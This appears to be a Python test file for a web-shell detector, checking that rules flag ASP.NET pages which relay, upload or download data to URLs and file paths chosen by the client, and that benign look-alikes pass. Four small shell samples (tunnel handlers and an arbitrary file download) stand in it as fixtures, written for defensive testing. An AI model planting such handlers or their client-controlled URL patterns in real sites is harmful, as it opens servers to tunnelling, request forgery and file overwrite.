"""The other documented forms of the web client calls the HTTP and file rules already count: the
asynchronous `WebClient` uploads and downloads (`...Async`, `...TaskAsync`), `WebClient.OpenWrite`
(a stream whose bytes go to the URL), `HttpClient.PatchAsync` and the fetch forms of
`EXH-WS-CODE-HTTP-RELAY` (a server the client names, not one the code fixes). Each shell is written from the class documentation
(docs/detection/webshell-code.md, "More web client forms") beside a genuine page that looks like it."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, medium_or_above, run


def page(body: str) -> str:
    return (
        '<%@ Page Language="C#" Async="true" %>\n<%@ Import Namespace="System.Net" %>\n'
        '<%@ Import Namespace="System.Net.Http" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n" + body + "\n}\n</script>"
    )


SHELLS = [
    (
        "relay.aspx",
        page('Response.Write(new WebClient().UploadStringTaskAsync(Request["u"], Request.Form["body"]).Result);'),
        "EXH-WS-CODE-HTTP-TUNNEL",
        ["request parameter 'u'", "sends data to the URL"],
    ),
    (
        "pipe.ashx",
        """<%@ WebHandler Language="C#" Class="Pipe" %>
using System.Net;
using System.Web;
public class Pipe : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext ctx) {
        var wc = new WebClient();
        using (var s = wc.OpenWrite(ctx.Request.QueryString["to"])) {
            ctx.Request.InputStream.CopyTo(s);
        }
    }
}""",
        "EXH-WS-CODE-HTTP-TUNNEL",
        ["query parameter 'to'", "WebClient.OpenWrite"],
    ),
    (
        "patch.aspx",
        page(
            "var hc = new HttpClient();\n"
            'var r = hc.PatchAsync(Request.Form["target"], new StringContent(Request.Form["data"])).Result;\n'
            "Response.Write(r.StatusCode);"
        ),
        "EXH-WS-CODE-HTTP-TUNNEL",
        ["form field 'target'", "HttpClient.PatchAsync"],
    ),
    (
        "fetch.aspx",
        page('new WebClient().DownloadFileTaskAsync(new Uri(Request["src"]), Request["dst"]).Wait();'),
        "EXH-WS-CODE-FILE-WRITE",
        ["request parameter 'src'", "request parameter 'dst'"],
    ),
]

BENIGN = [
    (
        "notify.aspx",
        # A message posted to the site's own fixed web hook.
        page('new WebClient().UploadStringTaskAsync("https://hooks.example.com/notify", Request.Form["msg"]).Wait();'),
    ),
    (
        "avatar.aspx",
        # A picture fetched from a URL into the site's cache under a name the server makes.
        page(
            'string cached = Server.MapPath("~/cache/") + Guid.NewGuid().ToString("N") + ".png";\n'
            'new WebClient().DownloadFileTaskAsync(new Uri(Request["picture"]), cached).Wait();\n'
            'img.ImageUrl = "~/cache/" + System.IO.Path.GetFileName(cached);'
        ),
    ),
    (
        "upload-log.ashx",
        # A log file sent to the application's fixed collector.
        """<%@ WebHandler Language="C#" Class="Ship" %>
using System.Net;
using System.Web;
public class Ship : IHttpHandler {
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(HttpContext ctx) {
        var wc = new WebClient();
        using (var s = wc.OpenWrite("https://logs.example.com/in")) {
            ctx.Request.InputStream.CopyTo(s);
        }
    }
}""",
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_web_client_form_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
    assert_found(name, code, rule_id, words)


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_look_alike(name: str, code: str) -> None:
    assert_benign(name, code)


def test_fetching_a_url_the_client_names_is_request_forgery() -> None:
    report = run("proxy.aspx", page('Response.Write(new HttpClient().GetStringAsync(Request["u"]).Result);'))
    assert medium_or_above(report) == ["EXH-WS-CODE-HTTP-RELAY"]


@pytest.mark.parametrize(
    "url",
    [
        '"https://updates.example.com/check?v=" + Request["v"]',
        'string.Format("https://api.example.com/items/{0}", Request["id"])',
        '$"https://api.example.com/items/{Request["id"]}"',
        'new Uri("https://api.example.com/items/" + Request["id"])',
        'Request.Url.GetLeftPart(UriPartial.Authority) + "/scripts/" + Request["f"]',
        'System.Configuration.ConfigurationManager.AppSettings["api"] + "/items/" + Request["id"]',
        'string.Format(Feed + "{0}.zip", Request["v"])',
        '"http://metrics.example.com:" + Request["port"] + "/push"',
        '"http://files.example.com\\" + Request["f"]',
    ],
    ids=[
        "concatenated",
        "format",
        "interpolated",
        "uri",
        "own-site",
        "configured",
        "configured-format",
        "port-only",
        "backslash",
    ],
)
def test_fetching_from_a_server_the_code_fixes_is_not_reported(url: str) -> None:
    # The client adds a path or a query; the scheme and host are the code's (or the site's own).
    members = '\nstatic string Feed = System.Web.Configuration.WebConfigurationManager.AppSettings["feed"];'
    code = page(f"Response.Write(new HttpClient().GetStringAsync({url}).Result);").replace(
        "</script>", members + "\n</script>"
    )
    report = run("check.aspx", code)
    assert "EXH-WS-CODE-HTTP-RELAY" not in [c.rule_id for c in report.capabilities]


def test_a_format_string_of_the_clients_is_still_the_clients() -> None:
    # `string.Format(Request["f"] + "{0}", ...)`: the client writes the start, so the server too.
    report = run(
        "p.aspx", page('Response.Write(new WebClient().DownloadString(string.Format(Request["f"] + "{0}", "x")));')
    )
    assert medium_or_above(report) == ["EXH-WS-CODE-HTTP-RELAY"]


def test_a_host_after_the_scheme_is_still_the_clients() -> None:
    # `"http://" + host + "/x"`: the code writes the scheme, the client the server.
    report = run("p.aspx", page('Response.Write(new WebClient().DownloadString("http://" + Request["h"] + "/x"));'))
    assert medium_or_above(report) == ["EXH-WS-CODE-HTTP-RELAY"]


def test_a_url_typed_into_a_page_control_is_not_reported() -> None:
    # A settings page's "test this feed" button: an administrator types the service's address, as
    # for the tunnel rule; what the client sends itself (query, form, body) still counts.
    markup = '<asp:TextBox ID="FeedUrl" runat="server" /><asp:Button ID="Test" runat="server" OnClick="Test_Click" />'
    code = (
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Test_Click(object s, EventArgs e) { Result.Text = new System.Net.WebClient().DownloadString(FeedUrl.Text); }\n"
        "</script>\n" + markup + '<asp:Label ID="Result" runat="server" />'
    )
    report = run("settings.aspx", code)
    assert "EXH-WS-CODE-HTTP-RELAY" not in medium_or_above(report)
    posted = code.replace("DownloadString(FeedUrl.Text)", 'DownloadString(Request.Form["feed"])')
    assert medium_or_above(run("settings.aspx", posted)) == ["EXH-WS-CODE-HTTP-RELAY"]
